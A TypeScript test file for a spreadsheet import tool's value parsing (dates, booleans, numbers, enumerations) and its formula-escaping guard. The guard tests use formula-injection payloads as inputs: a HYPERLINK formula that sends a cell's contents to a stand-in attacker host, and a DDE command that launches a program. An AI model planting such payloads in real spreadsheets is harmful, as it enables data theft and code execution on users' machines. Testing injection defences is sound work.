// Values as spreadsheets write them, typed by the field they go to: booleans, numbers with
// thousands separators, ISO and Excel serial dates, day/month dates (ambiguous unless told),
// enumerations as people write them, and the formula guard of export and import.
import type * as z from 'zod';
import { describe, expect, it } from 'vitest';
import { Metric } from '../../schemas/outcome.js';
import { Server } from '../../schemas/server.js';
import { Workload } from '../../schemas/workload.js';
import { fieldValue } from '../../src/import/field-value.js';
import { booleanOf, dateOf, serialDate } from '../../src/import/spreadsheet-values.js';
import { guardFormula, unguardFormula } from '../../src/text/formula-guard.js';

const workload = (field: string, cell: string | number | boolean, options = {}) => fieldValue(cell, Workload as unknown as z.ZodType, field.split('.'), options);

describe('booleans', () => {
  it('reads TRUE, FALSE, Yes, No and Y/N in any case, and boolean cells', () => {
    expect(['TRUE', 'true', 'True', 'Yes', 'YES', 'y', true].map(booleanOf)).toEqual([true, true, true, true, true, true, true]);
    expect(['FALSE', 'false', 'No', 'no', 'N', false].map(booleanOf)).toEqual([false, false, false, false, false, false]);
    expect(['', 'maybe', '1', 1].map(booleanOf)).toEqual([undefined, undefined, undefined, undefined]);
  });

  it('types a boolean field, and refuses what is no boolean with a hint', () => {
    expect(workload('revenue_impacting', 'Yes')).toEqual({ value: true });
    expect(workload('revenue_impacting', 'FALSE')).toEqual({ value: false });
    expect(workload('revenue_impacting', 'sometimes')).toEqual({ problem: '`revenue_impacting` must be true or false, not `sometimes`', hint: 'write TRUE or FALSE (or Yes or No)' });
  });
});

describe('dates', () => {
  it('reads Excel serial day numbers, before and after the 29 February 1900 Excel counts', () => {
    expect(serialDate(1)).toEqual({ date: '1900-01-01' });
    expect(serialDate(59)).toEqual({ date: '1900-02-28' });
    expect(serialDate(61)).toEqual({ date: '1900-03-01' });
    expect(serialDate(46142)).toEqual({ date: '2026-04-30' });
    expect(serialDate(46142.75)).toEqual({ date: '2026-04-30' });
    expect(serialDate(60)).toBeUndefined();
    expect(serialDate(0)).toBeUndefined();
  });

  it('reads ISO dates and date-times, serial numbers as text, and day/month dates one reading fits', () => {
    expect(dateOf('2027-03-01')).toEqual({ date: '2027-03-01' });
    expect(dateOf('2027-03-01T00:00:00Z')).toEqual({ date: '2027-03-01' });
    expect(dateOf('2027/3/1')).toEqual({ date: '2027-03-01' });
    expect(dateOf('46142')).toEqual({ date: '2026-04-30' });
    expect(dateOf(46142)).toEqual({ date: '2026-04-30' });
    expect(dateOf('31/01/2027')).toEqual({ date: '2027-01-31' });
    expect(dateOf('01/31/2027')).toEqual({ date: '2027-01-31' });
    expect(dateOf('3/3/2027')).toEqual({ date: '2027-03-03' });
    expect(dateOf('1/31/2025 18:00')).toEqual({ date: '2025-01-31' });
    expect(dateOf('31.01.2027')).toEqual({ date: '2027-01-31' });
    expect(dateOf('2027-02-30')).toBeUndefined();
    expect(dateOf('soon')).toBeUndefined();
  });

  it('gives both readings of an ambiguous date, and one when the order is told', () => {
    expect(dateOf('3/1/2027')).toEqual({ ambiguous: ['2027-01-03', '2027-03-01'] });
    expect(dateOf('3/1/2027', 'dmy')).toEqual({ date: '2027-01-03' });
    expect(dateOf('3/1/2027', 'mdy')).toEqual({ date: '2027-03-01' });
  });

  it('refuses an ambiguous date in a date field, naming both readings and --date-format', () => {
    expect(workload('milestone', '3/1/2027')).toEqual({
      problem: '`milestone`: `3/1/2027` is ambiguous: 2027-01-03 (day first) or 2027-03-01 (month first)',
      hint: 'say which with --date-format DMY or --date-format MDY',
    });
    expect(workload('milestone', '3/1/2027', { dateOrder: 'mdy' })).toEqual({ value: '2027-03-01' });
    expect(workload('milestone', 46142)).toEqual({ value: '2026-04-30' });
  });

  it('refuses what is no date with the message validate gives', () => {
    expect(workload('milestone', 'next spring')).toEqual({ problem: '`milestone`: not a date: write YYYY-MM-DD, a day that exists (`next spring`)' });
  });
});

describe('numbers, text, enumerations and lists', () => {
  it('reads thousands separators and number cells; refuses what is no number', () => {
    expect(workload('users', '1,200')).toEqual({ value: 1200 });
    expect(workload('users', 35000)).toEqual({ value: 35000 });
    expect(workload('costs.on_prem_monthly', '1,048,576.50')).toEqual({ value: 1048576.5 });
    expect(workload('users', 'many')).toEqual({ problem: '`users` must be a number, not `many`' });
    expect(workload('users', '-3')).toEqual({ problem: '`users` must be at least 0, not `-3`' });
    expect(workload('rank', '1.5')).toEqual({ problem: '`rank` must be a whole number, not `1.5`' });
  });

  // Was a bug, kept as a regression test: MEG's sheet as a spreadsheet shows it (`SLA` 99.9%, `On-premises Cost` $1,000.50)
  // refused the whole import: "`sla` must be a number, not `99.9%`".
  it('reads a percentage as the fraction it means, and a currency sign before or after the number', () => {
    expect(workload('sla', '99.9%')).toEqual({ value: 0.999 });
    expect(workload('sla', ' 99.95 % ')).toEqual({ value: 0.9995 });
    expect(workload('sla', '100%')).toEqual({ value: 1 });
    expect(workload('sla', '99.9')).toEqual({ problem: '`sla` must be at most 1, not `99.9`' });
    expect(workload('costs.on_prem_monthly', '$1,000.50')).toEqual({ value: 1000.5 });
    expect(workload('costs.on_prem_monthly', '1,200 €')).toEqual({ value: 1200 });
    expect(workload('costs.on_prem_monthly', '£75')).toEqual({ value: 75 });
    expect(workload('costs.on_prem_monthly', '$')).toEqual({ problem: '`costs.on_prem_monthly` must be a number, not `$`' });
    expect(workload('costs.on_prem_monthly', 'USD 5')).toEqual({ problem: '`costs.on_prem_monthly` must be a number, not `USD 5`' });
  });

  it('keeps text as written: leading zeros, and numbers read from a workbook as text', () => {
    expect(workload('name', '0012')).toEqual({ value: '0012' });
    expect(workload('business_unit', 12)).toEqual({ value: '12' });
  });

  it('reads enumerations in any case, with spaces or underscores, and common synonyms', () => {
    expect(workload('criticality', 'Mission Critical')).toEqual({ value: 'mission-critical' });
    expect(workload('status', 'IN_PROGRESS')).toEqual({ problem: '`status` cannot be `IN_PROGRESS`: expected identified, assessing, remediating, ready, scheduled, migrating, migrated, optimized, retired, retained or blocked' });
    expect(workload('environment', 'Prod')).toEqual({ value: 'production' });
    expect(workload('strategy', 'Rehost')).toEqual({ value: 'rehost' });
    expect(fieldValue('Ready with conditions', Server as unknown as z.ZodType, ['readiness'])).toEqual({ value: 'conditionally-ready' });
    expect(workload('priority', 'urgent')).toEqual({ problem: '`priority` cannot be `urgent`: expected high, medium or low' });
  });

  it('splits lists on `;` and checks each item', () => {
    expect(workload('tags', 'web; public')).toEqual({ value: ['web', 'public'] });
    expect(workload('drivers', 'dc-exit;not an id')).toEqual({ problem: '`drivers[1]`: not a valid priority id (`not an id`)' });
  });

  it("reads a metric's figure as a number when it is written as one, else as text", () => {
    const baseline = (cell: string | number) => fieldValue(cell, Metric as unknown as z.ZodType, ['baseline']);
    expect(baseline('42')).toEqual({ value: 42 });
    expect(baseline(0.9951)).toEqual({ value: 0.9951 });
    expect(baseline('0042')).toEqual({ value: '0042' });
    expect(baseline('n/a')).toEqual({ value: 'n/a' });
  });
});

describe('the formula guard', () => {
  it("writes text a spreadsheet would run after a `'`, and takes exactly that `'` off again", () => {
    const texts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '+1', '-2', '@SUM(A1)', '\tx', '\rx', "'=x", "''+y", "'quoted", 'plain', ''];
    expect(texts.map(guardFormula)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "'=cmd|' /C calc'!A0",
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "''=x",
      "'''+y",
      "'quoted",
      'plain',
      '',
    ]);
    expect(texts.map(guardFormula).map(unguardFormula)).toEqual(texts);
    expect(unguardFormula('=A1')).toBe('=A1');
  });
});
